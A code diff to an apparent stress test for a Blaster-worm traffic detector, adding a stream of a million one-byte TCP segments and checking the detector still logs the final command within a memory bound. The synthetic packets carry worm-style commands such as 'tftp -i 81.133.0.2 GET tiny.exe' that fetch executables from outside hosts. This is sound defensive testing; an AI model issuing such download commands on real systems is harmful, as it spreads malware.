@@ -21,6 +21,7 @@ import tempfile
 
 RSS_BOUND_KB = 64 * 1024
 LONG_MB = 100
+TINY = 1000000
 
 
 def csum(b):
@@ -102,6 +103,14 @@ def main():
         c = (c + 1400) & 0xffffffff
     tail = b"\ntftp -i 81.133.0.1 GET after.exe\n"
     w.put(frame(cli, srv, cp, 4444, c, 5000, PSH | ACK, tail))
+    # one stream of a million one-byte segments: many short lines, then a command
+    cli, srv, cp, c = 0x51860001, 0x0a0c0001, 40002, 1001
+    w.put(frame(cli, srv, cp, 4444, c - 1, 0, SYN))
+    w.put(frame(srv, cli, 4444, cp, 4999, c, SYN | ACK))
+    w.put(frame(cli, srv, cp, 4444, c, 5000, ACK))
+    text = b"ab\n" * (TINY // 3) + b"tftp -i 81.133.0.2 GET tiny.exe\n"
+    for i in range(len(text)):
+        w.put(frame(cli, srv, cp, 4444, c + i, 5000, ACK, text[i:i + 1]))
     w.f.close()
     cfg = os.path.join(tmp, "ws.yaml")
     with open(cfg, "w") as f:
@@ -112,13 +121,14 @@ def main():
     rows = open(os.path.join(out, "blasterlog.txt")).read().splitlines()[1:]
     stats = [l for l in r.stderr.splitlines() if "streams" in l or "evictions" in l]
     files = {row.split("\t")[3] for row in rows}
-    want = {"drop%d.exe" % k for k in range(planted)} | {"after.exe"}
-    ok = (r.returncode == 0 and len(rows) == 3 * planted + 1 and files == want)
+    want = {"drop%d.exe" % k for k in range(planted)} | {"after.exe", "tiny.exe"}
+    ok = (r.returncode == 0 and len(rows) == 3 * planted + 2 and files == want)
     print("flood: %d packets (%d SYNs to 135/4444, %d never-closing connections), "
           "%d dropper sessions" % (w.n, syns, syns // 40, planted))
-    print("flood: plus one stream of %d MB without a newline, then a command" % LONG_MB)
+    print("flood: plus one stream of %d MB without a newline, then a command, and one of "
+          "%d one-byte segments" % (LONG_MB, TINY))
     print("flood: %d events (want %d), peak RSS %.1f MB (bound %d MB)"
-          % (len(rows), 3 * planted + 1, rss / 1024, RSS_BOUND_KB // 1024))
+          % (len(rows), 3 * planted + 2, rss / 1024, RSS_BOUND_KB // 1024))
     for l in stats:
         print("  " + l)
     if not ok:
